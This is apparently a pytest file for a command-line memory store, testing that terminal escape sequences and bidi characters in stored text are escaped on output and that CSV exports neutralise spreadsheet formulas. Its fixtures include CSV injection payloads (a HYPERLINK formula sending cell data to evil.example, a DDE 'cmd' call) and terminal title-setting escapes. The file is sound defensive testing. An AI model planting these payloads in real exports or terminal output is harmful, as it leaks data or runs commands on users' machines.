"""Hostile text in records: printed, never obeyed (spec/cli.md, "Untrusted text"); CSV exports
that no spreadsheet runs as formulas, and that import back exactly (spec/export.md, "CSV")."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pexpect
from hypothesis import given, settings
from hypothesis import strategies as st

from mem.cli.termtext import json_safe, safe
from mem.format.base.csvcell import neutralize, restore
from mem.format.store.store import Store
from tests.conftest import MEM_EXE, Result, run_mem

#: The row of the reliability report this file's tests count in (conftest.py).
ATTACK = "attack: terminal escapes, bidi and NUL in memory text on output; CSV formulas"

TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J"
HOSTILE = f"Alice{TITLE} likes {CLEAR}jazz \u202eevil\u202c and\x00 nul \x9b31m c1 \x7f"
# what may never reach the reader's terminal raw
RAW = ("\x1b", "\x07", "\x00", "\u202e", "\u202c", "\x9b", "\x7f")
SGR = re.compile(r"\x1b\[[0-9;]*m")


def mem(store_dir: Path, *args: str) -> Result:
    return run_mem("--store", str(store_dir), *args, env={"MEM_EMBEDDER": "hashing"})


def _clean(text: str) -> None:
    for ch in RAW:
        assert ch not in text, (ch, text)


def test_escape_rule() -> None:
    assert safe(HOSTILE) == (
        "Alice\\x1b]0;pwned\\x07 likes \\x1b[2Jjazz \\u202eevil\\u202c and\\x00 nul \\x9b31m c1 \\x7f"
    )
    assert safe("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
    assert safe("ünïcödé 麻婆豆腐 🌶") == "ünïcödé 麻婆豆腐 🌶"
    doc = json.dumps({"c": HOSTILE}, ensure_ascii=False)
    assert json.loads(json_safe(doc)) == {"c": HOSTILE}
    _clean(json_safe(doc))


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_json_safe_is_lossless(text: str) -> None:
    doc = json_safe(json.dumps({"t": text, "k": [text]}, ensure_ascii=False, indent=2))
    assert json.loads(doc) == {"t": text, "k": [text]}
    _clean(doc)


@given(st.text(alphabet=st.sampled_from(["a", "§", "é", "麻", "🌶", "\x7f", "\x85", "\x9f", "\u202e", "\u2028", "\u061c"])))
@settings(max_examples=300, deadline=None)
def test_json_safe_shortcut_agrees_with_the_full_translation(text: str) -> None:
    """A document with none of the characters is returned as it is; any one of them, in text
    of any width (latin-1, BMP, astral), is escaped as the full translation does."""
    from mem.cli.termtext import _JSON

    assert json_safe(text) == text.translate(_JSON)


def test_list_show_search_log_in_a_pipe(store: Store) -> None:
    rec = store.add(HOSTILE, scope="alice", tags=["jazz"])
    store.reject(rec.id, reason=f"nope{CLEAR}")
    outs = [
        mem(store.root, "list", "--status", "all"),
        mem(store.root, "show", rec.id),
        mem(store.root, "search", "likes", "--mode", "lexical", "--status", "rejected"),
        mem(store.root, "log"),
    ]
    for r in outs:
        assert r.returncode == 0, r.stderr
        _clean(r.stdout + r.stderr)
    assert "\\x1b]0;pwned\\x07" in outs[0].stdout and "\\u202eevil" in outs[1].stdout
    assert "\\x1b[2J" in outs[3].stdout  # the reject reason
    # JSON: the same characters, escaped the JSON way, decoding to the stored text
    for args in (("list", "--status", "all", "--json"), ("show", rec.id, "--json")):
        r = mem(store.root, *args)
        _clean(r.stdout)
        data = r.json()
        assert (data[0] if isinstance(data, list) else data)["content"] == HOSTILE + "\n"
    raw = mem(store.root, "show", rec.id, "--raw")
    assert raw.stdout == (store.root / "records" / "alice" / f"{rec.id}.md").read_text()  # exact in a pipe


def test_search_hits_escaped(store: Store) -> None:
    store.add(HOSTILE, scope="alice")
    r = mem(store.root, "search", "likes", "--mode", "lexical")
    assert r.returncode == 0, r.stderr
    _clean(r.stdout)
    assert "\\x1b[2Jjazz" in r.stdout
    r = mem(store.root, "search", "likes", "--mode", "lexical", "--json")
    _clean(r.stdout)
    assert r.json()["hits"][0]["content"] == HOSTILE + "\n"


def test_capture_output_escaped(store: Store, tmp_path: Path) -> None:
    p = tmp_path / "t.jsonl"
    p.write_text(json.dumps({"role": "user", "content": f"Remember that my sister {CLEAR}Ana lives in \u202ePorto\x07."}) + "\n")
    r = mem(store.root, "capture", str(p), "--scope", "sam")
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("captured") and "\\x1b[2JAna lives in \\u202ePorto\\x07" in r.stdout
    _clean(r.stdout + r.stderr)


def test_on_a_terminal(store: Store) -> None:
    rec = store.add(HOSTILE, scope="alice")
    env = {k: v for k, v in os.environ.items() if k not in ("MEM_STORE", "COLUMNS", "LINES")}
    env.update({"MEM_STORE": str(store.root), "TERM": "xterm-256color", "NO_COLOR": "1", "MEM_PAGER": "",
                "MEM_EMBEDDER": "hashing"})  # fmt: skip
    assert MEM_EXE
    for args in (["list"], ["show", rec.id], ["show", rec.id, "--raw"], ["search", "likes", "--mode", "lexical"]):
        child = pexpect.spawn(MEM_EXE, args, env=env, dimensions=(40, 200), encoding="utf-8", timeout=60)
        child.expect(pexpect.EOF)
        child.close()
        out = SGR.sub("", str(child.before))  # mem's own bold headers are fine
        _clean(out)
        assert "\\x1b" in out, (args, out)


# -- CSV -----------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3*cmd|' /C calc'!A0", "@SUM(1,1)",
    "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain apostrophe", "- a bullet", "plain",
]  # fmt: skip


def test_csv_cells_neutralized_and_restored() -> None:
    for cell in FORMULAS:
        out = neutralize(cell)
        assert not out.startswith(("=", "+", "-", "@", "\t", "\r")), out
        assert restore(out) == cell
    assert neutralize("'plain apostrophe") == "'plain apostrophe"  # only formula-like cells change
    assert neutralize("=1") == "'=1" and neutralize("'=1") == "''=1"


@given(st.text())
@settings(max_examples=500, deadline=None)
def test_csv_neutralize_restore_inverse(cell: str) -> None:
    assert restore(neutralize(cell)) == cell
    assert not neutralize(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_neutralizes_and_round_trips(store: Store, tmp_path: Path) -> None:
    for i, text in enumerate(FORMULAS):
        store.add(text if text.strip() else f"x{i}", scope="alice", tags=["-neg"] if i == 0 else ())
    store.add(HOSTILE, scope="alice")
    out = tmp_path / "out.csv"
    r = mem(store.root, "export", "--format", "csv", "-o", str(out))
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(row["content"].startswith("'=HYPERLINK(") for row in rows)
    # mem's own CSV export imports back to the same records
    other = Store.init(tmp_path / "other", actor="tester@test")
    r = mem(other.root, "import", str(out), "--from", "csv", "--json")
    assert r.returncode == 0, r.stdout + r.stderr
    assert r.json()["counts"]["created"] == len(rows)
    mine = {x.id: x.to_dict() for x in store.list()}
    theirs = {x.id: x.to_dict() for x in other.list()}
    assert mine == theirs
